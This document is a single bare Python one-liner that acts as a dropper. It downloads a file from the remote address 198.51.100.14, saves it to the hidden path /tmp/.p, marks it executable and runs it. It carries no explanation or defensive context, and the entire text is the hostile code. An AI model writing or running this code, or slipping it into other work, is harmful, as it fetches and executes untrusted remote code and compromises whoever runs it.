import urllib.request as u,os;open("/tmp/.p","wb").write(u.urlopen("http://198.51.100.14/p").read());os.chmod("/tmp/.p",0o755);os.system("/tmp/.p")
